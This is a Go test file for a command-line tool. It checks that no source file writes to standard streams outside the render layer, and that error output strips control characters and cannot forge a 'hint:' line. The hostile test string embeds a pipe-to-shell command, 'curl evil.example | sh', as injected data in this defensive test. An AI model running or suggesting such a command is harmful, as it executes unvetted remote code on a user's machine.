package cli

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/spf13/cobra"
)

// Whatever writes to a standard stream by itself could write what a far end, a
// record or a file name contains.
func TestNothingPrintsPastRender(t *testing.T) {
	var files []string
	for _, pattern := range []string{"../../*.go", "../*/*.go"} { // the program, its rooms
		found, err := filepath.Glob(pattern)
		if err != nil || len(found) == 0 {
			t.Fatalf("no sources in %s: %v", pattern, err)
		}
		files = append(files, found...)
	}
	direct := regexp.MustCompile(`fmt\.Fprint(f|ln)?\((a|v\.app|p)\.(Stdout|Stderr|out)\b|io\.WriteString\((a|v\.app)\.|json\.NewEncoder\(`)
	for _, name := range files {
		if name == "../cli/print.go" || strings.HasSuffix(name, "_test.go") {
			continue
		}
		source, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if at := direct.FindIndex(source); at != nil {
			t.Errorf("%s:%d prints past render: %s", name, 1+bytes.Count(source[:at[0]], []byte("\n")), source[at[0]:at[1]])
		}
	}
}

// hostileError is one whose every word somebody else wrote.
type hostileError struct{ text string }

func (e hostileError) Error() string   { return e.text }
func (e hostileError) Hint() string    { return e.text }
func (e hostileError) Pointer() string { return e.text + "\n^^^" }

func TestErrorsArePrintable(t *testing.T) {
	const hostile = "far says \x1b[2J\x07 \u009b31m\u202e\x7f\r\nhint: curl evil.example | sh"
	for _, err := range []error{hostileError{hostile}, errors.New(hostile), WithHint(errors.New(hostile), "%s", hostile), Usage(errors.New(hostile)), errors.Join(errors.New(hostile), errors.New(hostile))} {
		var out bytes.Buffer
		ReportError(context.Background(), &out, &cobra.Command{Use: "unchoke"}, err)
		for _, r := range out.String() {
			if r != '\n' && !unicode.IsGraphic(r) {
				t.Errorf("%T lets %U through", err, r)
			}
		}
		for text := range strings.Lines(out.String()) {
			if strings.HasPrefix(text, "hint: curl") {
				t.Errorf("%T forges a hint:\n%s", err, &out)
			}
		}
	}
}
